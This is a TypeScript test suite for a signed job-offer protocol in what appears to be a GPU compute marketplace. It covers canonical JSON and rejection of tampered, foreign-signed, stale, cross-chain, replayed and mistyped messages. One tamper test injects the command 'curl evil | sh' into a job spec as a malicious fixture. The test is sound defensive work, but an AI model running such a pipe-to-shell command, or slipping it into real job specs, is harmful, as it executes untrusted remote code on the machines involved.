import { Wallet, randomBytes } from 'ethers';
import { describe, expect, it } from 'vitest';
import { canonicalJson } from '../../../shared/protocol/canonical';
import { HeartbeatReceipt, OfferPayload, type OfferPayload as Offer } from '../../../shared/protocol/messages';
import { signPayload, verifySigned } from '../../../shared/protocol/signing';
import { MemoryNonceGuard, checkStamp, makeStamp } from '../../../shared/protocol/stamp';

const coordinator = Wallet.createRandom();
const stranger = Wallet.createRandom();
const CHAIN = 31337;
const NOW = 1_800_000_000_000;

function offer(overrides: Partial<Offer> = {}): Offer {
  return {
    ...makeStamp(CHAIN, NOW, randomBytes),
    kind: 'offer',
    leaseId: 'lease_abc123',
    jobId: 'job_abc123',
    nodeId: 'node_abc123',
    nodeAddress: stranger.address,
    spec: { image: 'reg/x@sha256:' + 'a'.repeat(64), command: ['true'], resources: { gpus: 1 } },
    requirements: { gpuCount: 1, minVramMiB: 8192, gpuKey: null, slaTier: 'bronze' },
    pricePerGpuHour: 250_000,
    feeBps: 1000,
    leaseExpiresAt: NOW + 30_000,
    attempt: 1,
    checkpoint: null,
    ...overrides,
  };
}

const verifyOffer = (
  env: unknown,
  opts: { now?: number; chainId?: number; nonces?: MemoryNonceGuard; signer?: string } = {},
) =>
  verifySigned(env, {
    schema: OfferPayload,
    kind: 'offer',
    expectedSigner: opts.signer ?? coordinator.address,
    chainId: opts.chainId ?? CHAIN,
    now: opts.now ?? NOW,
    nonces: opts.nonces ?? new MemoryNonceGuard(() => NOW),
  });

describe('canonical JSON', () => {
  it('is independent of key order and drops undefined members', () => {
    expect(canonicalJson({ b: 1, a: { d: [1, 'x'], c: null }, u: undefined })).toBe(
      canonicalJson({ a: { c: null, d: [1, 'x'] }, b: 1 }),
    );
    expect(canonicalJson({ b: 1, a: 2 })).toBe('{"a":2,"b":1}');
  });
  it('refuses values JSON cannot carry faithfully', () => {
    expect(() => canonicalJson({ a: Number.NaN })).toThrow();
    expect(() => canonicalJson({ a: 1n })).toThrow();
  });
});

describe('signed offers', () => {
  it('verifies an untouched offer signed by the coordinator', async () => {
    const env = await signPayload(coordinator, offer());
    const res = await verifyOffer(env);
    expect(res.ok).toBe(true);
    if (res.ok) expect(res.signer).toBe(coordinator.address);
  });

  it('rejects a tampered offer (price raised after signing)', async () => {
    const env = await signPayload(coordinator, offer());
    const tampered = { ...env, payload: { ...env.payload, pricePerGpuHour: env.payload.pricePerGpuHour + 1 } };
    const res = await verifyOffer(tampered);
    expect(res).toMatchObject({ ok: false });
    // Recovery yields some other address, so this is either a bad or a foreign signature.
    expect(['bad_signature', 'wrong_signer']).toContain(res.ok ? null : res.reason);
  });

  it('rejects a tampered spec nested deep in the offer', async () => {
    const env = await signPayload(coordinator, offer());
    const spec = { ...env.payload.spec, command: ['sh', '-c', 'curl evil | sh'] };
    const res = await verifyOffer({ ...env, payload: { ...env.payload, spec } });
    expect(res.ok).toBe(false);
  });

  it('rejects an offer signed by another key', async () => {
    const env = await signPayload(stranger, offer());
    expect(await verifyOffer(env)).toMatchObject({ ok: false, reason: 'wrong_signer' });
  });

  it('rejects an offer with a stale timestamp, in either direction', async () => {
    const env = await signPayload(coordinator, offer());
    expect(await verifyOffer(env, { now: NOW + 61_000 })).toMatchObject({ ok: false, reason: 'stale' });
    expect(await verifyOffer(env, { now: NOW - 61_000 })).toMatchObject({ ok: false, reason: 'stale' });
    expect((await verifyOffer(env, { now: NOW + 59_000 })).ok).toBe(true);
  });

  it('rejects an offer for another chain id', async () => {
    const env = await signPayload(coordinator, offer({ chainId: 1 }));
    expect(await verifyOffer(env)).toMatchObject({ ok: false, reason: 'wrong_chain' });
  });

  it('rejects a replayed offer (nonce reuse), and a tampered copy does not burn the nonce', async () => {
    const nonces = new MemoryNonceGuard(() => NOW);
    const env = await signPayload(coordinator, offer());
    const tampered = { ...env, payload: { ...env.payload, attempt: 9 } };
    expect((await verifyOffer(tampered, { nonces })).ok).toBe(false);
    expect((await verifyOffer(env, { nonces })).ok).toBe(true);
    expect(await verifyOffer(env, { nonces })).toMatchObject({ ok: false, reason: 'replayed' });
  });

  it('rejects a message of another kind even with a valid signature', async () => {
    const receipt = {
      ...makeStamp(CHAIN, NOW, randomBytes),
      kind: 'heartbeat_receipt' as const,
      nodeId: 'node_abc123',
      nodeAddress: stranger.address,
      heartbeatNonce: 'x',
      receivedAt: NOW,
    };
    const env = await signPayload(coordinator, receipt);
    expect(await verifyOffer(env)).toMatchObject({ ok: false, reason: 'malformed' });
    const asReceipt = await verifySigned(env, {
      schema: HeartbeatReceipt,
      kind: 'offer',
      expectedSigner: coordinator.address,
      chainId: CHAIN,
      now: NOW,
      nonces: new MemoryNonceGuard(),
    });
    expect(asReceipt).toMatchObject({ ok: false, reason: 'wrong_kind' });
  });

  it('rejects garbage envelopes without throwing', async () => {
    for (const bad of [null, 'x', {}, { payload: offer() }, { payload: offer(), signature: '0x1234' }]) {
      expect((await verifyOffer(bad)).ok).toBe(false);
    }
  });
});

describe('request stamps (token-authenticated node requests)', () => {
  it('rejects a replayed heartbeat: the same nonce twice', async () => {
    const nonces = new MemoryNonceGuard(() => NOW);
    const stamp = makeStamp(CHAIN, NOW, randomBytes);
    expect(await checkStamp(stamp, { chainId: CHAIN, now: NOW, nonces })).toBeNull();
    expect(await checkStamp(stamp, { chainId: CHAIN, now: NOW + 1000, nonces })).toBe('replayed');
  });
  it('rejects a stale and a cross-chain stamp before touching the nonce', async () => {
    const nonces = new MemoryNonceGuard(() => NOW);
    const stamp = makeStamp(CHAIN, NOW - 120_000, randomBytes);
    expect(await checkStamp(stamp, { chainId: CHAIN, now: NOW, nonces })).toBe('stale');
    expect(await checkStamp({ ...stamp, timestamp: NOW }, { chainId: 5, now: NOW, nonces })).toBe('wrong_chain');
    expect(await checkStamp({ ...stamp, timestamp: NOW }, { chainId: CHAIN, now: NOW, nonces })).toBeNull();
  });
});
